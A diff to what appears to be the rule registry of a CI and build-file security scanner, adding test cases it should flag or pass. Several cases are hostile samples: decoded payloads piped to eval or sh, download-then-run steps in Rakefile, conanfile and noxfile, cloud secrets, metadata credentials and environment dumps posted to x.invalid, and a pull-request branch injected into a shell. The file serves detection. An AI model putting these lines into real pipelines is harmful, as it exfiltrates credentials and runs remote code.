@@ -139,6 +139,11 @@ var registry = []Rule{
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// Tilt runs local() as it reads the Tiltfile; the Serverless
+			// Framework's script hooks run at every deploy.
+			{"Tiltfile", "local('echo $P | base64 -d > /tmp/x.sh && sh /tmp/x.sh')", 0, false},
+			{"serverless.yml", "service: app\ncustom:\n  scripts:\n    hooks:\n      'before:deploy:deploy': X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
+			{"Tiltfile", "local_resource('compile', cmd='go build -o bin/app ./cmd/app', deps=['./cmd', './internal'])\nk8s_yaml(local('kustomize build deploy/dev'))", 0, true},
 			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
 			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
 			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
@@ -218,6 +223,9 @@ var registry = []Rule{
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/t-1.2.tar.gz .\nRUN tar -xf t-1.2.tar.gz\nRUN adduser -S app && git config --global core.quotepath false", 0, true},
+		// Unpacked on the next line of the same RUN, by tar under libarchive's name.
+		{"Dockerfile", "FROM alpine\nRUN d=\"$(mktemp -d)\"; \\\n  curl -fsSL https://x.invalid/n.tar.xz -o ${d}/n.tar.xz; \\\n  bsdtar -C ${d} -xf ${d}/n.tar.xz; \\\n  cp ${d}/bin/n /usr/local/bin/n", 4, true},
+		{"Dockerfile", "FROM alpine\nRUN d=\"$(mktemp -d)\"; \\\n  curl -fsSL https://x.invalid/n.sh -o ${d}/n.sh; \\\n  sh ${d}/n.sh", 4, false},
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
@@ -257,6 +265,13 @@ var registry = []Rule{
 		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
 		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
 		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
+		// Code that hands literal commands to a shell or a process: one
+		// call downloads, the next runs what it wrote (Rake's sh, Conan's
+		// self.run, nox's session.run with an argument list).
+		{"Rakefile", "task :setup do\n  sh \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\n  sh \"sh /tmp/b.sh\"\nend", 3, false},
+		{"conanfile.py", "class X(ConanFile):\n    def build(self):\n        self.run(\"wget -qO /tmp/b.sh https://x.invalid/b.sh\")\n        self.run(\"bash /tmp/b.sh\")", 4, false},
+		{"noxfile.py", "@nox.session\ndef t(session):\n    session.run(\"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\", external=True)\n    session.run(\"sh\", \"/tmp/b.sh\", external=True)", 4, false},
+		{"setup.py", "import subprocess\nsubprocess.check_call([\"git\", \"submodule\", \"update\", \"--init\"])\nsubprocess.check_call(\"make -C build -j4\", shell=True)\nsubprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\", f\"-DPYTHON={sys.executable}\"])", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -389,11 +404,33 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// What a secret store prints is the secret: Vault, AWS, Google's
+			// and Azure's stores, Buildkite's secrets, a sops file decrypted;
+			// handed as the credential of a request to its service, it is its
+			// use.
+			{".gitlab-ci.yml", "deploy:\n  script:\n    - export PW=$(vault kv get -field=password secret/ci/db)\n    - curl -s https://x.invalid/c -d \"$PW\"", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          gcloud secrets versions access latest --secret=prod-db > /tmp/s\n          curl -s -T /tmp/s https://x.invalid/u", 8, false},
+			{".gitlab-ci.yml", "test:\n  script:\n    - sops -d secrets.enc.yaml > /tmp/plain.yaml\n    - curl -s -F f=@/tmp/plain.yaml https://x.invalid/u", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          K=$(aws secretsmanager get-secret-value --secret-id prod/deploy --query SecretString --output text)\n          curl -fsS -X POST -H \"Authorization: Bearer $K\" https://deploy.x.invalid/api/releases", 0, true},
+			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
+			// The environment posted by Elixir's, Dart's and Swift's clients.
+			{"lib/x.ex", "HTTPoison.post!(\"https://x.invalid/c\", Jason.encode!(System.get_env()))", 0, false},
+			{"tool/x.dart", "import 'dart:io';\nvoid main() async {\n  final r = await HttpClient().postUrl(Uri.parse('https://x.invalid/c'));\n  r.write(Platform.environment.toString());\n  await r.close();\n}", 4, false},
+			{"Sources/x.swift", "var r = URLRequest(url: URL(string: \"https://x.invalid/c\")!)\nr.httpMethod = \"POST\"\nr.httpBody = ProcessInfo.processInfo.environment.description.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()", 2, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
 			{"x.sh", "cat ~/.aws/credentials | msmtp a@x.invalid", 0, false},
 			{"x.sh", "echo build done | mail -s done ops@x.invalid", 0, true},
+			// tar -C names what it packs from that directory: web/, not the checkout.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          tar -czf out/web.tar.gz -C web .\n          gh release create v1 out/web.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}", 9, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          tar -czf /tmp/all.tar.gz .\n          gh release create v1 /tmp/all.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}", 9, false},
+			// The metadata service's session token (IMDSv2) goes back to the
+			// service on the runner's own machine; its credentials sent away leave.
+			{"x.sh", "TOKEN=$(curl -sS -X PUT http://169.254.169.254/latest/api/token -H \"X-aws-ec2-metadata-token-ttl-seconds: 30\")\nENV=$(curl -sS -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/tags/instance/env)", 0, true},
+			{"x.sh", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ci)\ncurl -s -d \"$C\" https://x.invalid/c", 2, false},
 			// GitHub's token handed as the credential (a header, -u, a URL's
 			// user part) of a request to another host; to GitHub it is its use.
 			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
@@ -1149,6 +1186,9 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    steps:\n      - run: ./notify.sh \"${{ github.event.check_suite.head_branch }}\"", 5, false},
 			{".github/workflows/a.yml", "on: check_run\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.check_run.output.summary }}' >> report.md", 5, false},
 			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    steps:\n      - run: ./deploy.sh ${{ github.event.client_payload.environment }}", 5, false},
+			// A script that binds the pull request's text and hands it to a
+			// shell.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const branch = context.payload.pull_request.head.ref\n            require('child_process').execSync(`git log origin/${branch}`)", 10, false},
 			// The base branch is the repository's own.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
 		}},
@@ -1231,6 +1271,8 @@ var registry = []Rule{
 			// Without the head checked out, the workspace holds the base branch's own files.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
+			// What the instance's own metadata service answers did not come over the network.
+			{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          E=$(curl -sS http://169.254.169.254/latest/meta-data/tags/instance/env)\n          echo \"ENVIRONMENT=$E\" >> \"$GITHUB_ENV\"", 8, true},
 		}},
 	{"gha-path-shadow", KindExecute, High, "puts a directory of the checkout first on PATH before a step that holds a secret",
 		"a later step that calls git, gh or node by name, with a secret or the token in its env, then runs the change's file of that name instead", []Case{
